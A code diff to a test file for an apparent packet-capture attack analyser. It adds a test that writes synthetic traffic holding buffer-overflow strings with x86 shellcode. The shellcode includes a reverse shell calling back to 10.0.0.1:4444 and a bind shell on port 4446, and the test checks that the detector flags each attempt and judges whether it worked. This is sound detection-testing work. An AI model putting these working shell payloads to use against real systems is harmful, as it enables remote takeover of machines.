@@ -52,11 +52,13 @@ class Recording:
 
     def put(self, client, from_client, sequence, flags, data=b""):
         ends = [(b"\x0a\0\0\1", client), (b"\x0a\0\0\2", 80)]
-        source, to = ends if from_client else reversed(ends)
+        self.send(*(ends if from_client else reversed(ends)), sequence, flags, data)
+
+    def send(self, source, to, sequence, flags, data=b"", after=0):
         tcp = struct.pack(">HHIIBBHHH", source[1], to[1], sequence, 0, 0x50, flags, 1024, 0, 0)
         ip = struct.pack(">BBHHHBBH", 0x45, 0, 40 + len(data), 1, 0x4000, 64, 6, 0)
         frame = b"\2\0\0\0\0\1\2\0\0\0\0\2\x08\0" + ip + source[0] + to[0] + tcp + data
-        self.packets.append((time.time(), frame))
+        self.packets.append((time.time() + after, frame))
 
     def talk(self, *targets):
         """The requests on one connection, one after the other."""
@@ -126,6 +128,59 @@ def test_a_real_server_attacked(folder):
     assert b"3 attacks succeeded" in people.stderr, people.stderr
 
 
+def push(text):
+    """x86: the text with its NUL on the stack."""
+    text += b"\0" * (4 - len(text) % 4)
+    return b"".join(b"\x68" + text[at:at + 4] for at in range(len(text) - 4, -1, -4))
+
+
+SOCKET = bytes.fromhex("31db5343536a0289e16a6658cd8096")
+SHELL = push(b"/bin/sh") + bytes.fromhex("89e331c050535489e1" "31d2b00bcd80")
+
+
+def calls_back(address, port):
+    return (SOCKET + b"\x68" + socket.inet_aton(address) + b"\x66\x68" + struct.pack(">H", port) +
+            bytes.fromhex("666a0289e16a10515689e16a035b6a6658cd80") + SHELL)
+
+
+def listens(port):
+    return (SOCKET + bytes.fromhex("31d2526668") + struct.pack(">H", port) +
+            bytes.fromhex("666a0289e16a10515689e16a025b6a6658cd80"
+                          "6a015689e16a045b6a6658cd80" "52525689e16a055b6a6658cd80") + SHELL)
+
+
+def test_machine_code_in_traffic(folder):
+    """Four overflows, in a protocol of its own and in a header; two of the victims obey."""
+    filling = b"A" * 200 + b"\xbf\xee\xff\xbf" * 3 + b"\x90" * 40
+    web = b"GET / HTTP/1.0\r\nHost: h\r\nReferer: "
+    attacks = [(b"USER ", calls_back("10.0.0.1", 4444), b"\r\n", True),
+               (b"USER ", calls_back("10.0.0.1", 4445), b"\r\n", False),
+               (web, listens(4446), b"\r\n\r\n", True), (web, listens(4447), b"\r\n\r\n", False)]
+    recording = Recording(0)
+    for i, (before, code, behind, obeyed) in enumerate(attacks):
+        client, victim = b"\x0a\0\0\1", bytes([10, 0, 0, 10 + i])
+        ends = (client, 30000 + i), (victim, 21 if before.startswith(b"USER") else 80)
+        recording.send(*ends, 0, 0x02, after=i)
+        recording.send(*reversed(ends), 0, 0x12, after=i)
+        recording.send(*ends, 1, 0x18, before + filling + code + behind, after=i)
+        port = 4444 + i
+        back = ((victim, 1025), (client, port)) if port < 4446 else ((client, 1025), (victim, port))
+        if obeyed or port == 4447:  # the attacker tries the door that did not open
+            recording.send(*back, 0, 0x02, after=i + 0.5)
+        if obeyed:
+            recording.send(*reversed(back), 0, 0x12, after=i + 0.6)
+    recording.write(folder / "code.pcap")
+    rows = judged(folder / "code.pcap", "--attacks")
+    assert [row["class"] for row in rows] == ["shellcode"] * 4, rows
+    found = {row["destination_ip"]: (row["verdict"], (row["proof"] or {}).get("found", ""))
+             for row in rows}
+    assert found == {"10.0.0.10": ("SUCCESS", "10.0.0.10 → 10.0.0.1:4444"),
+                     "10.0.0.11": ("UNKNOWN", ""),
+                     "10.0.0.12": ("SUCCESS", "10.0.0.1 → 10.0.0.12:4446 accepted"),
+                     "10.0.0.13": ("UNKNOWN", "")}, found
+    assert "connects 10.0.0.1:4445" in rows[1]["command"], rows[1]
+
+
 def test_a_broken_capture_is_said(folder):
     (folder / "cut.pcap").write_bytes(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)
                                       + b"\1\0\0\0\0\0\0\0\xff\0\0\0\xff\0\0\0cut")
@@ -171,5 +226,5 @@ def test_the_laboratory(folder):
     assert share("SUCCESS_INVISIBLE", "UNKNOWN") >= 0.95, counts
 
 
-main([test_a_real_server_attacked, test_a_broken_capture_is_said, test_known_captures,
-      test_the_laboratory])
+main([test_a_real_server_attacked, test_machine_code_in_traffic, test_a_broken_capture_is_said,
+      test_known_captures, test_the_laboratory])
